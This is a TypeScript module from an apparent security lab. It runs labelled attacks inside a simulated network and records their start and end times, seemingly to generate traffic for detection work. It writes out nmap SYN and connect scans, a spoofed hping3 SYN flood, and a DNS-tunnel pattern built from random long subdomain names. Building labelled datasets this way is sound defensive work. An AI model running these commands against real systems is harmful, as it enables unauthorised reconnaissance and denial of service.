import type { Random } from "../../lib/random.ts";
import type { Attack } from "./labels.ts";
import type { LabNetwork } from "./network.ts";
import {
  NAMES,
  PRINTER,
  SCANNER,
  SPOOFED,
  TUNNEL_ZONE,
  TUNNELLER,
  WEB,
} from "./plan.ts";
import { pause } from "./visitors.ts";

/** An attack that is going to happen. */
interface Plan extends Omit<Attack, "begin" | "end"> {
  /** The host that runs it. */
  readonly host: string;
  /** What it reads. */
  readonly input?: string;
}

/** Seconds between two attacks. */
const REST = 4;

/** How long packets may be on their way after the program's end, in seconds. */
const AFTERMATH = 0.5;

/** How many names the tunnel's data is put into. */
const TUNNEL_NAMES = 1500;

/** Names that carry data, as a tunnel's do: three labels of 56 digits each. */
function tunnelNames(random: Random): string {
  const word = () => random.bits().toString(16).padStart(8, "0");
  const label = () => Array.from({ length: 7 }, word).join("");
  return Array.from(
    { length: TUNNEL_NAMES },
    () => `${label()}.${label()}.${label()}.${TUNNEL_ZONE} A\n`,
  ).join("");
}

function plans(random: Random): Plan[] {
  return [{
    label: "syn-scan",
    command: `nmap -sS -Pn -n --top-ports 200 --max-rate 80 ${PRINTER.address}`,
    host: SCANNER.name,
    protocol: "tcp",
    attacker: SCANNER.address,
    target: PRINTER.address,
  }, {
    label: "connect-scan",
    command: `nmap -sT -Pn -n -p 1-200 --max-rate 80 ${PRINTER.address}`,
    host: SCANNER.name,
    protocol: "tcp",
    attacker: SCANNER.address,
    target: PRINTER.address,
  }, {
    label: "dns-tunnel",
    command: `dig +tries=1 +time=1 @${NAMES.address} -f -`,
    input: tunnelNames(random),
    host: TUNNELLER.name,
    protocol: "udp",
    attacker: TUNNELLER.address,
    target: NAMES.address,
  }, {
    label: "syn-flood",
    command:
      `hping3 -q -n -S -p 80 -c 600 -i u3000 -a ${SPOOFED} ${WEB.address}`,
    host: SCANNER.name,
    protocol: "tcp",
    attacker: SPOOFED,
    target: WEB.address,
  }];
}

/** The time, in seconds since 1970, to the millisecond. */
export function now(): number {
  return Date.now() / 1000;
}

/**
 * Runs the attacks, one after the other.
 *
 * @param network Where.
 * @param random What the tunnel's data is drawn from.
 * @param signal Its abort leaves out those that are not yet begun.
 * @param say Takes each line meant for people.
 * @returns What was done when.
 */
export async function attackAll(
  network: LabNetwork,
  random: Random,
  signal: AbortSignal,
  say: (line: string) => void,
): Promise<Attack[]> {
  const attacks: Attack[] = [];
  for (const { host, input, ...attack } of plans(random)) {
    if (signal.aborted) break;
    say(`${attack.label}: ${attack.command}`);
    const begin = now();
    await network.run(
      host,
      attack.command.split(" "),
      input === undefined ? {} : { input },
    );
    await pause(AFTERMATH, signal);
    attacks.push({ ...attack, begin, end: now() });
    await pause(REST, signal);
  }
  return attacks;
}
